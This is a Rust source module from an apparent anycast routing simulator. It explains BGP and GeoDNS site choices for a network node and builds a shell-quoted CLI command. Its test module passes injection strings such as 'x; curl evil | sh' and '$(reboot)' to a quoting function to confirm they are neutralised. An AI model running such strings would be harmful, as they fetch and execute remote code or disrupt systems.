//! Why packets of a dot go where they go, and what would move them.

use std::ops::ControlFlow;

use catchment_dynamics::geodns::resolvers_of;
use catchment_dynamics::history::{AgedHop, Ending, History, fate_text, recall};
use catchment_dynamics::play::RouteLog;
use catchment_dynamics::rtt::{best_ms, unicast_ms};
use catchment_dynamics::sites::Lives;
use catchment_dynamics::state::At;
use catchment_dynamics::{Delivery, Fate, Script};
use catchment_model::scenario::{AnswerPolicy, Steering};
use catchment_model::{Duration, Service};
use catchment_routing::decision::weighs_rtt;
use catchment_routing::explain::{Choosable, explain_while, label};
use catchment_routing::{Situation, Step, Via, link_rtt_ms, solve};

use super::flips::flip_info;
use super::problems::{cancelled, no_such_dot, problem, unfinished, unsolved};
use super::ways::{active_sites, first_prefix, layers, prefix_of};
use super::{Played, Run, SCENARIO_FILE, Watch};
use crate::api::{ChangeInfo, FlipInfo, HopInfo, NearInfo, OptionInfo, PacketInfo, Problem, Why};
use crate::columns::fate_code;

/// Parts of a dot's packets that are told apart; of more only the largest is told.
const PARTS_TOLD: usize = 3;

/// Why packets of a dot go where they go at a time.
pub fn why(
    played: &Played,
    run: &Run,
    dot: u32,
    at_us: i64,
    watch: Watch<'_>,
) -> Result<Why, Problem> {
    let script = played.script(run);
    let world = script.situation.world;
    if dot as usize >= world.router_count() {
        return Err(no_such_dot(dot, world.router_count()));
    }
    if at_us < 0 {
        let help = "times are µs since the start of the scenario";
        return Err(problem("bad-time", 422, "the time lies before the start", help));
    }
    let parts = parts(run, dot);
    let mut why = Why {
        dot,
        subject: label(script.situation, dot),
        asn: world.asn_of(dot).0,
        at_us,
        site: None,
        verdict: String::new(),
        decisive: None,
        hops: Vec::new(),
        ending: None,
        changes: Vec::new(),
        packets: packets(&script, &parts, at_us),
        rtt_ms: None,
        nearest: nearest(&script, run, dot, at_us),
        settled_site: None,
        flips: Vec::new(),
        command: command(played, dot, at_us, None),
    };
    if run.steering == Steering::GeoDns {
        by_dns(&script, &parts, &mut why);
        return Ok(why);
    }
    let fate = main_part(&parts).map(|main| parts[main].at(at_us));
    let prefix = fate.and_then(|fate| prefix_of(&script, fate));
    let prefix = prefix.unwrap_or_else(|| first_prefix(&script));
    by_bgp(played, run, &script, prefix, &mut why, watch)?;
    if prefix != 0 {
        let prefix = script.situation.service.prefixes[usize::from(prefix)];
        why.command = command(played, dot, at_us, Some(prefix.to_string()));
    }
    Ok(why)
}

/// A text as one word of a shell: names are free text, and a command is there to be pasted.
pub fn shell_word(text: &str) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./:+,@%".contains(&byte);
    match !text.is_empty() && text.bytes().all(is_plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', "'\\''")),
    }
}

/// The command that prints the same, with [`SCENARIO_FILE`] for the scenario.
fn command(played: &Played, dot: u32, at_us: i64, prefix: Option<String>) -> String {
    let world = &played.assembled.world;
    let asn = world.asn_of(dot);
    let mut command = format!("catchment explain {SCENARIO_FILE} --as {asn}");
    let routers = world.routers_of_asn(asn);
    if let Some(place) = world.place(dot).filter(|_| world.shown_router(routers) != dot) {
        command += &format!(" --city {}", shell_word(&place.code));
    }
    if let Some(prefix) = prefix {
        command += &format!(" --prefix {prefix}");
    }
    command + &format!(" --at {}", At::Time(Duration { us: at_us }))
}

/// A part of a dot's packets that always goes one way.
struct Part<'a> {
    delivery: &'a Delivery,
    stream: u32,
    share: f64,
}

impl Part<'_> {
    fn at(&self, at_us: i64) -> Fate {
        let until = self.delivery.changes.partition_point(|change| change.at_us <= at_us);
        let ours = &self.delivery.changes[..until];
        let last = ours.iter().rfind(|change| change.stream == self.stream);
        last.map_or(self.delivery.start[self.stream as usize], |change| change.fate)
    }
}

/// The part that stands for a dot: the largest, of equal ones the first. The map draws it by the
/// same rule.
fn main_part(parts: &[Part<'_>]) -> Option<usize> {
    let share = |index: &usize| parts[*index].share;
    // Of equal ones `max_by` takes the last.
    (0..parts.len()).rev().max_by(|a, b| share(a).total_cmp(&share(b)))
}

fn parts(run: &Run, dot: u32) -> Vec<Part<'_>> {
    let mut parts = Vec::new();
    for delivery in [&run.timeline.delivery, &run.timeline.bystanders] {
        for (stream, spec) in (0..).zip(&delivery.streams) {
            if delivery.sources[spec.source as usize].router == dot {
                parts.push(Part { delivery, stream, share: spec.share });
            }
        }
    }
    parts
}

/// What became of packets from t = 0 up to a time.
fn packets(script: &Script<'_>, parts: &[Part<'_>], at_us: i64) -> Vec<PacketInfo> {
    let largest = main_part(parts).map(|main| &parts[main]);
    let told: Vec<&Part<'_>> = match parts.len() {
        0..=PARTS_TOLD => parts.iter().collect(),
        _ => largest.into_iter().collect(),
    };
    let cause = |cause: u32| {
        let occurrence = script.schedule.get(cause as usize)?;
        Some(match occurrence.label.is_empty() {
            true => format!("event {}", occurrence.index + 1),
            false => occurrence.label.clone(),
        })
    };
    let mut packets = Vec::new();
    for part in told {
        let Part { delivery, stream, share } = *part;
        let mut put = |at_us: i64, fate: Fate, cause: Option<String>| {
            let mut text = fate_text(script.situation.service, fate);
            if share < 1.0 {
                text += &format!(" ({:.0} % of them)", 100.0 * share);
            }
            packets.push(PacketInfo { at_us, fate: fate_code(fate), text, cause });
        };
        let changes = delivery.changes.iter().filter(|change| change.stream == stream);
        let changes: Vec<_> = changes.take_while(|change| change.at_us <= at_us).collect();
        // What an event at 0 changes at once was never seen otherwise.
        if changes.first().is_none_or(|first| first.at_us > 0) {
            put(0, delivery.start[stream as usize], None);
        }
        for change in changes {
            put(change.at_us, change.fate, cause(change.cause));
        }
    }
    packets.sort_by_key(|packet| packet.at_us);
    packets
}

/// Active sites, the nearest first.
fn nearest(script: &Script<'_>, run: &Run, dot: u32, at_us: i64) -> Vec<NearInfo> {
    let Situation { world, service, rules, .. } = script.situation;
    let Some(here) = world.place(dot) else { return Vec::new() };
    let active = active_sites(script, &run.timeline, at_us);
    let near = |((site, spec), active): ((u32, &catchment_model::service::Site), bool)| {
        let there = world.place(spec.router).filter(|_| active)?;
        let km = world.distance_km(dot, spec.router)?;
        Some(NearInfo { site, km, rtt_ms: best_ms(rules, here.at, there.at) })
    };
    let mut all: Vec<NearInfo> = (0..).zip(&service.sites).zip(active).filter_map(near).collect();
    all.sort_by(|a, b| a.km.total_cmp(&b.km).then(a.site.cmp(&b.site)));
    all
}

fn by_bgp(
    played: &Played,
    run: &Run,
    script: &Script<'_>,
    prefix: u16,
    why: &mut Why,
    watch: Watch<'_>,
) -> Result<(), Problem> {
    let logs: Vec<&RouteLog> = layers(script, &run.timeline, prefix)
        .into_iter()
        .map(|place| &run.timeline.routes[place])
        .collect();
    let mut steps = |done, total| watch("playing", done, total);
    let asked = (why.dot, prefix);
    let prelude = played.prelude();
    let recalled = recall(script, &prelude, &logs, asked, why.at_us, &mut steps);
    let recalled = recalled.map_err(unfinished)?;
    let history = &recalled.history;
    let (service, world) = (script.situation.service, script.situation.world);
    let rules = script.situation.rules;
    why.site = history.site.as_deref().and_then(|name| site_of(service, name));
    let weighs_rtt = weighs_rtt(world, rules);
    why.hops = history.hops.iter().map(|hop| hop_info(script, hop, weighs_rtt)).collect();
    let decisive = decisive(history);
    why.decisive = decisive.map(|(hop, _)| hop as u32);
    why.verdict = verdict(history, decisive);
    why.ending = ending(&history.ending);
    why.changes = history.pasts.first().map_or(Vec::new(), |past| {
        past.changes
            .iter()
            .map(|change| ChangeInfo {
                at_us: change.at_us,
                to: change.to.clone(),
                as_path: change.as_path.iter().map(|asn| asn.0).collect(),
                site: change.site.as_deref().and_then(|name| site_of(service, name)),
                came_in: change.came_in.clone(),
                verdict: change.verdict.clone(),
                cause: change.cause.clone(),
            })
            .collect()
    });
    if why.site.is_some() {
        let passed: Vec<u32> = history.hops.iter().map(|it| it.hop.router).collect();
        let start = world.place(why.dot).map(|_| rules.t_server);
        why.rtt_ms = passed.windows(2).fold(start, |rtt_ms, pair| {
            Some(rtt_ms? + link_rtt_ms(world, rules, pair[0], pair[1])?)
        });
    }
    let then =
        Situation { overlay: &recalled.overlay, service: &recalled.service, ..script.situation };
    (why.settled_site, why.flips) = settled(then, prefix, why, watch)?;
    Ok(())
}

fn site_of(service: &Service, name: &str) -> Option<u32> {
    let place = service.sites.iter().position(|site| site.name.as_str() == name);
    place.map(|place| place as u32)
}

/// Where the dot is in the steady state, and single changes that move it away from there. That
/// state has no past: where it differs from what the dot uses, because of age or because news are
/// still under way, its changes say nothing of the dot, and there are none.
fn settled(
    situation: Situation<'_>,
    prefix: u16,
    why: &Why,
    watch: Watch<'_>,
) -> Result<(Option<u32>, Vec<FlipInfo>), Problem> {
    let mut catchments = Vec::new();
    for prefix in 0..situation.service.prefixes.len() as u16 {
        if watch("solving", 0, 0) == ControlFlow::Break(()) {
            return Err(cancelled());
        }
        match solve(situation, prefix) {
            Ok(catchment) => catchments.push(catchment),
            // What goes on for ever without a past may settle with one.
            Err(catchment_routing::Unsolved::Oscillation(_)) => return Ok((None, Vec::new())),
            Err(error) => return Err(unsolved(error)),
        }
    }
    let mut goes_on = || watch("solving", 0, 0) == ControlFlow::Continue(());
    let found = explain_while(situation, &catchments, why.dot, prefix, &mut goes_on);
    let Some(found) = found.map_err(unsolved)? else { return Err(cancelled()) };
    let settled = found.site.as_deref().and_then(|name| site_of(situation.service, name));
    let flips = found.flips.iter().filter(|_| settled == why.site);
    let info = flips.filter_map(|flip| flip_info(situation.world, situation.service, flip));
    Ok((settled, info.collect()))
}

fn hop_info(script: &Script<'_>, aged: &AgedHop, weighs_rtt: bool) -> HopInfo {
    let AgedHop { hop, ages } = aged;
    let option = |(index, option): (usize, &Choosable)| {
        let candidate = &option.candidate;
        OptionInfo {
            from: option.from.clone(),
            as_path: option.as_path.iter().map(|asn| asn.0).collect(),
            site: (candidate.site != u32::MAX).then_some(candidate.site),
            class: candidate.class.to_string(),
            local_pref: candidate.local_pref,
            path_length: candidate.path_length,
            med: candidate.med,
            is_internal: matches!(candidate.via, Via::Internal(_)),
            igp_cost: candidate.igp_cost,
            rtt_ms: weighs_rtt.then_some(candidate.rtt_us as f64 / 1000.0),
            router_id: candidate.router_id,
            age: ages.get(index).map(|age| told_age(age)).unwrap_or_default(),
            lost_at: option.lost_at.map(|step| step.name().to_owned()),
        }
    };
    let steps = Step::order(script.situation.rules).iter();
    HopInfo {
        dot: hop.router,
        label: hop.label.clone(),
        asn: hop.asn.0,
        originates: hop.originates,
        decided_by: hop.decided_by.map(|step| step.name().to_owned()),
        options: hop.options.iter().enumerate().map(option).collect(),
        steps: steps.map(|step| step.name().to_owned()).collect(),
    }
}

fn ending(ending: &Ending) -> Option<String> {
    match ending {
        Ending::Arrived => None,
        Ending::Dropped => {
            Some("its packets are dropped there, as the announcement asks".to_owned())
        }
        Ending::NoRoute(router) => {
            Some(format!("its packets are lost at {router}, which has no route"))
        }
        Ending::Loop(router) => {
            Some(format!("its packets come back to {router} and go round in a loop"))
        }
    }
}

/// The first hop at which another site was on offer, and the first option that leads there.
fn decisive(history: &History) -> Option<(usize, usize)> {
    let first_site = |hop: &AgedHop| hop.hop.options.first().map(|it| it.candidate.site);
    history.hops.iter().enumerate().find_map(|(position, hop)| {
        let chosen = first_site(hop)?;
        let other = hop.hop.options.iter().position(|option| {
            let site = option.candidate.site;
            site != u32::MAX && site != chosen && option.lost_at.is_some()
        })?;
        Some((position, other))
    })
}

/// How it was decided, in a sentence.
fn verdict(history: &History, decisive: Option<(usize, usize)>) -> String {
    let subject = &history.subject;
    let Some(first) = history.hops.first() else {
        return format!("{subject} has no route");
    };
    if first.hop.originates {
        return format!("{subject} is a site itself");
    }
    let Some((position, other)) = decisive else {
        return match &first.hop.options[..] {
            [only] => format!("{subject} hears of one route only, from {}", only.from),
            _ => match &history.site {
                Some(site) => format!("every route on offer along the way leads to {site}"),
                None => "no route on offer along the way leads to another site".to_owned(),
            },
        };
    };
    let AgedHop { hop, ages } = &history.hops[position];
    let (winner, loser) = (&hop.options[0], &hop.options[other]);
    let age = |option: usize| ages.get(option).filter(|age| !age.is_empty());
    let step = loser.lost_at.unwrap_or(Step::NeighborAddress);
    let chooses = match step {
        Step::Oldest => keeps(winner, loser, age(0), age(other)),
        step => chooses(step, winner, loser),
    };
    match position {
        0 => format!("{} {chooses}", hop.label),
        _ => format!("further on, {} {chooses}", hop.label),
    }
}

/// A neighbor in a word: its AS, or the router inside.
fn by(option: &Choosable) -> String {
    match option.candidate.via {
        Via::Internal(_) => option.from.clone(),
        _ => option.from.split([' ', ',']).next().unwrap_or_default().to_owned(),
    }
}

/// An age for people: what is older than the run is told from its start on.
fn told_age(age: &str) -> String {
    match age.split_once("since -") {
        Some((how, size)) => format!("{how}since {size} before the start"),
        None => age.to_owned(),
    }
}

/// What age decided, as the end of a sentence.
fn keeps(
    winner: &Choosable,
    loser: &Choosable,
    since: Option<&String>,
    other_since: Option<&String>,
) -> String {
    let age =
        |text: Option<&String>| text.map_or(String::new(), |text| format!(" ({})", told_age(text)));
    format!(
        "keeps the older route, to {} through {}{}: the other, to {} through {}{}, is no better",
        winner.site,
        by(winner),
        age(since),
        loser.site,
        by(loser),
        age(other_since),
    )
}

/// What decided between two options, as the end of a sentence.
fn chooses(step: Step, winner: &Choosable, loser: &Choosable) -> String {
    let (us, them) = (by(winner), by(loser));
    let (a, b) = (&winner.candidate, &loser.candidate);
    let (site, other) = (&winner.site, &loser.site);
    let hops = |count: u32| if count == 1 { "1 hop".to_owned() } else { format!("{count} hops") };
    match step {
        Step::LocalPref if a.class < b.class => format!(
            "prefers its {} {us}, which leads to {site}, to its {} {them}, which leads to {other}",
            a.class, b.class
        ),
        Step::LocalPref => format!(
            "is told to prefer {us}, which leads to {site}: LOCAL_PREF {} against {} of {them}, \
             which leads to {other}",
            a.local_pref, b.local_pref
        ),
        Step::PathLength => format!(
            "takes the shorter AS path: {} through {us} to {site}, not {} through {them} to \
             {other}",
            hops(a.path_length),
            b.path_length
        ),
        Step::Origin => {
            format!(
                "takes the better origin code: that of {us} to {site}, not of {them} to {other}"
            )
        }
        Step::Med => {
            format!("takes the lower MED: that of {us} to {site}, not of {them} to {other}")
        }
        Step::Ebgp => format!(
            "prefers what it hears from outside, {us} to {site}, to what it hears from {them}, to \
             {other}"
        ),
        Step::IgpCost => format!(
            "takes the nearest exit: {us} to {site}, {} km away, not {them} to {other}, {} km away",
            a.igp_cost, b.igp_cost
        ),
        Step::Oldest => keeps(winner, loser, None, None),
        Step::Rtt => format!(
            "takes the shorter round trip: {:.1} ms through {us} to {site}, not {:.1} ms through \
             {them} to {other}",
            a.rtt_us as f64 / 1000.0,
            b.rtt_us as f64 / 1000.0
        ),
        Step::TieBreak => {
            format!("breaks a tie as was asked for: it takes {us} to {site}, not {them} to {other}")
        }
        Step::RouterId => format!(
            "finds both routes equal and takes the lower router id: {} of {us} to {site}, not {} \
             of {them} to {other}",
            a.router_id, b.router_id
        ),
        Step::ClusterList => format!(
            "takes the shorter reflection path: through {us} to {site}, not {them} to {other}"
        ),
        Step::NeighborAddress => format!(
            "finds both routes equal and takes the lower address: that of {us} to {site}, not of \
             {them} to {other}"
        ),
    }
}

/// The answers of DNS that a dot's clients hold.
fn by_dns(script: &Script<'_>, parts: &[Part<'_>], why: &mut Why) {
    let Situation { world, service, rules, .. } = script.situation;
    let at_us = why.at_us;
    let Some(largest) = main_part(parts) else {
        why.verdict = format!("{} asks nobody", why.subject);
        return;
    };
    let fate = parts[largest].at(at_us);
    why.site = fate.site();
    why.rtt_ms = fate
        .site()
        .and_then(|site| unicast_ms(world, rules, why.dot, service.sites[site as usize].router));
    let part = &parts[largest];
    let source = part.delivery.streams[part.stream as usize].source;
    let resolvers = resolvers_of(script, &part.delivery.sources[source as usize]);
    let lives = Lives::new(service, script.schedule);
    let told = |index: usize| -> String {
        let resolver_km = resolvers.get(index).and_then(|resolver| resolver.km);
        let resolver = match resolver_km {
            Some(km) if km >= 1.0 => format!("its resolver, {km:.0} km away,"),
            _ => "its resolver".to_owned(),
        };
        let name = |site: u32| &service.sites[site as usize].name;
        match parts[index].at(at_us) {
            Fate::Served(site) => {
                let reason = reason(script, why, site);
                format!("{resolver} answers with {}, {reason}", name(site))
            }
            Fate::Stale(Some(site)) => {
                let since_us = lives.at(site, at_us).from_us;
                let since_s = since_us.max(0) as f64 / 1e6;
                format!(
                    "{resolver} still answers with {}, which has been gone since {since_s} s",
                    name(site)
                )
            }
            _ => format!("{resolver} has no answer, since no site was well when it asked"),
        }
    };
    let mut verdict = told(largest);
    let others: Vec<String> = (0..parts.len())
        .filter(|index| parts[*index].at(at_us) != fate)
        .map(|index| format!("for {:.0} %, {}", 100.0 * parts[index].share, told(index)))
        .collect();
    if !others.is_empty() {
        let main: f64 = (0..parts.len())
            .filter(|index| parts[*index].at(at_us) == fate)
            .map(|index| parts[index].share)
            .sum();
        verdict = format!("for {:.0} %, {verdict}; {}", 100.0 * main, others.join("; "));
    }
    why.verdict = format!("{}: {verdict}", why.subject);
}

/// Why DNS answers with a site.
fn reason(script: &Script<'_>, why: &Why, site: u32) -> String {
    let near = why.nearest.iter().position(|near| near.site == site);
    let km = near.map_or(String::new(), |at| format!(" ({:.0} km)", why.nearest[at].km));
    match script.geodns.policy {
        AnswerPolicy::Weighted => format!("drawn by capacity{km}"),
        AnswerPolicy::LoadAware => format!("the nearest with room when it asked{km}"),
        AnswerPolicy::Tier => format!("the one for its tier{km}"),
        AnswerPolicy::Nearest => match near {
            Some(0) => format!("the nearest healthy site{km}"),
            Some(_) => format!("the nearest healthy site to the resolver when it asked{km}"),
            None => "a healthy site when it asked".to_owned(),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::{Delivery, Part, main_part, shell_word, told_age};

    #[test]
    fn the_first_of_the_largest_parts_stands_for_a_dot() {
        let delivery = Delivery::default();
        let main = |shares: &[f64]| {
            let part = |share: &f64| Part { delivery: &delivery, stream: 0, share: *share };
            main_part(&shares.iter().map(part).collect::<Vec<_>>())
        };
        assert_eq!(main(&[0.5, 0.5]), Some(0));
        assert_eq!(main(&[0.2, 0.4, 0.4]), Some(1));
        assert_eq!(main(&[0.3, 0.3, 0.4]), Some(2));
        assert_eq!(main(&[]), None);
    }

    #[test]
    fn ages_from_before_the_start_say_so() {
        assert_eq!(told_age("in use since 10.051 s"), "in use since 10.051 s");
        let told = "in use since 959.873 s before the start";
        assert_eq!(told_age("in use since -959.873 s"), told);
        assert_eq!(told_age("since -0.500 s"), "since 0.500 s before the start");
        assert_eq!(told_age(""), "");
    }

    #[test]
    fn a_name_is_one_word_of_a_shell() {
        for (name, word) in [
            ("frankfurt-fails", "frankfurt-fails"),
            ("my/own.toml", "my/own.toml"),
            ("", "''"),
            ("x; curl evil | sh", "'x; curl evil | sh'"),
            ("$(reboot)", "'$(reboot)'"),
            ("it's", "'it'\\''s'"),
            ("São Paulo", "'São Paulo'"),
            ("a\nb", "'a\nb'"),
        ] {
            assert_eq!(shell_word(name), word);
        }
    }
}
